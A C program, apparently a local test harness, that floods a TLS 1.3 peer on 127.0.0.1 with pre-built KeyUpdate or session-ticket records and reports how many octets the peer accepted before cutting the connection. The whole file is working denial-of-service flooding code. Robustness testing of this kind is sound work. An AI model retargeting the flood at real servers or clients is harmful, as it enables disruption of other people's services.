/* An attacker that floods a TLS 1.3 peer with records that carry no data.
 *
 *   tls_flood client PORT OCTETS         floods a server on 127.0.0.1 with KeyUpdates
 *   tls_flood server CERT WHAT OCTETS    prints a port, and floods each client there, after its
 *                                        greeting, with keyupdates or tickets
 *
 * The records are made before the first of them is sent, so that the sender's work does not slow
 * the flood down. It prints how many octets the other side took until it cut the connection. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void die(const char *what)
{
    perror(what);
    ERR_print_errors_fp(stderr);
    exit(1);
}

static struct sockaddr_in here(int port)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return sa;
}

/* Puts records into memory until there are so many octets. A read half that is empty makes
 * SSL_do_handshake return as soon as its message is written. */
static BIO *make_records(SSL *ssl, int tickets, size_t octets)
{
    BIO *memory = BIO_new(BIO_s_mem());
    SSL_set0_rbio(ssl, BIO_new(BIO_s_mem()));
    SSL_set0_wbio(ssl, memory);
    BIO_set_mem_eof_return(SSL_get_rbio(ssl), -1);
    while (BIO_ctrl_pending(memory) < octets) {
        int ok = tickets ? SSL_new_session_ticket(ssl)
                         : SSL_key_update(ssl, SSL_KEY_UPDATE_NOT_REQUESTED);
        if (ok != 1 || SSL_do_handshake(ssl) != 1)
            die("a record");
    }
    return memory;
}

static size_t flood(SSL *ssl, int fd, int tickets, size_t octets)
{
    char *data;
    BIO *records = make_records(ssl, tickets, octets);
    size_t all = (size_t)BIO_get_mem_data(records, &data), sent = 0;
    while (sent < all) {
        ssize_t n = send(fd, data + sent, all - sent, MSG_NOSIGNAL);
        if (n <= 0)
            break;
        sent += (size_t)n;
    }
    return sent;
}

static int attack_server(int port, size_t octets)
{
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    SSL *ssl = SSL_new(ctx);
    struct sockaddr_in sa = here(port);
    char greeting[512];
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&sa, sizeof sa) < 0 || SSL_set_fd(ssl, fd) != 1)
        die("connect");
    if (SSL_connect(ssl) != 1 || SSL_read(ssl, greeting, sizeof greeting) <= 0)
        die("handshake");
    printf("%zu\n", flood(ssl, fd, 0, octets));
    return 0;
}

static _Noreturn void attack_clients(const char *certificate, int tickets, size_t octets)
{
    SSL_CTX *ctx = SSL_CTX_new(TLS_server_method());
    struct sockaddr_in sa = here(0);
    socklen_t len = sizeof sa;
    int listening = socket(AF_INET, SOCK_STREAM, 0);
    if (SSL_CTX_use_certificate_chain_file(ctx, certificate) != 1 ||
        SSL_CTX_use_PrivateKey_file(ctx, certificate, SSL_FILETYPE_PEM) != 1)
        die(certificate);
    if (bind(listening, (struct sockaddr *)&sa, len) < 0 || listen(listening, 16) < 0 ||
        getsockname(listening, (struct sockaddr *)&sa, &len) < 0)
        die("listen");
    printf("%d\n", ntohs(sa.sin_port));
    fflush(stdout);
    for (;;) {
        int fd = accept(listening, NULL, NULL);
        SSL *ssl = SSL_new(ctx);
        if (SSL_set_fd(ssl, fd) == 1 && SSL_accept(ssl) == 1 &&
            SSL_write(ssl, "220 hello\r\n", 11) == 11) {
            printf("%zu\n", flood(ssl, fd, tickets, octets));
            fflush(stdout);
        }
        close(fd);
        SSL_free(ssl);
    }
}

int main(int argc, char **argv)
{
    signal(SIGPIPE, SIG_IGN);
    if (argc == 4 && strcmp(argv[1], "client") == 0)
        return attack_server(atoi(argv[2]), strtoul(argv[3], NULL, 10));
    if (argc == 5 && strcmp(argv[1], "server") == 0)
        attack_clients(argv[2], strcmp(argv[3], "tickets") == 0, strtoul(argv[4], NULL, 10));
    fputs("usage: tls_flood client PORT OCTETS | server CERT keyupdates|tickets OCTETS\n", stderr);
    return 2;
}
